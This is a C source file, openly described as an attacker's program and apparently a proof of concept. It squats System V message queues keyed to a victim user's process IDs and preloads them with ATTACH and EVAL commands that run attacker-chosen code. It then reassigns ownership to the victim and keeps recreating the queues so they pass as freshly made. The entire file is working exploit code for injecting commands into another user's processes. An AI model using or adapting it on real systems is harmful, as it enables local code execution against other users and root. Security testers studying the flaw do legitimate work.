/*
 * An attacker's program: makes the command queues of processes of another user, puts commands into them, and gives them away.
 *
 *     forge_queue USER FIRST-PID COUNT SOCKET CODE [anew]
 *
 * USER is the victim's; for COUNT PIDs from FIRST-PID on, a queue under each one's key. What is in it: ATTACH, which
 * names SOCKET (any that USER or root listens on), and EVAL of CODE. Says "ready"; then the queues look as if they were
 * made just now, until its input ends: then they are removed. "anew": they are removed and made again all the time, so
 * that who looks at one may use another.
 */

#define _GNU_SOURCE
#include "proto/chunk.h"
#include "proto/command.h"
#include "proto/queue_key.h"

#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <unistd.h>

#define LOOK_NEW_EVERY_MS 100

static void put(int queue, const struct command *command)
{
	static const uint8_t nonce[NONCE_SIZE] = "sixteen letters";
	msgpack_sbuffer encoded;
	struct chunk chunk;
	size_t offset = 0;

	msgpack_sbuffer_init(&encoded);
	command_encode(&encoded, command);
	while (offset < encoded.size) {
		size_t size = chunk_split(&chunk, nonce, command->id, (const uint8_t *)encoded.data, encoded.size, CHUNK_SIZE_MAX,
		                          &offset);

		if (msgsnd(queue, &chunk, size, IPC_NOWAIT) != 0)
			break; /* somebody has removed it */
	}
	msgpack_sbuffer_destroy(&encoded);
}

static struct slice text(const char *string)
{
	return (struct slice){string, strlen(string)};
}

/* Who gives a queue away keeps his access as its creator, and each time it looks as new as it says. */
static void give_away(int queue, uid_t user)
{
	struct msqid_ds status;

	if (msgctl(queue, IPC_STAT, &status) != 0)
		return;
	status.msg_perm.uid = user;
	status.msg_perm.mode = 0600;
	msgctl(queue, IPC_SET, &status);
}

static int make(pid_t victim, const struct command *attach, const struct command *eval, uid_t user)
{
	int queue = msgget(queue_key(victim), IPC_CREAT | IPC_EXCL | 0600);

	if (queue < 0)
		return -1;
	put(queue, attach);
	put(queue, eval);
	give_away(queue, user);
	return queue;
}

int main(int argc, char **argv)
{
	struct command attach = {.kind = COMMAND_ATTACH, .id = 1}, eval = {.kind = COMMAND_EVAL, .id = 2};
	struct pollfd input = {.fd = 0, .events = POLLIN};
	uid_t user;
	pid_t first;
	int count, made = 0, *queues;

	if (argc < 6)
		return 2;
	user = (uid_t)atoi(argv[1]);
	first = atoi(argv[2]);
	count = atoi(argv[3]);
	queues = calloc((size_t)count, sizeof(*queues));
	attach.attach.version = PROTOCOL_VERSION;
	attach.attach.socket_path = text(argv[4]);
	eval.arguments.text = text(argv[5]);
	eval.arguments.name = text("attack");
	eval.arguments.result_size_max = EVAL_TEXT_DEFAULT;
	for (int i = 0; i < count; i++)
		if ((queues[made] = make(first + i, &attach, &eval, user)) >= 0)
			made++;
	printf("ready: %d\n", made);
	fflush(stdout);
	while (poll(&input, 1, argc > 6 ? 0 : LOOK_NEW_EVERY_MS) == 0)
		for (int i = 0; i < made; i++) {
			if (argc > 6) {
				msgctl(queues[i], IPC_RMID, NULL);
				queues[i] = make(first + i, &attach, &eval, user);
			} else {
				give_away(queues[i], user);
			}
		}
	for (int i = 0; i < made; i++)
		msgctl(queues[i], IPC_RMID, NULL);
	free(queues);
	return 0;
}
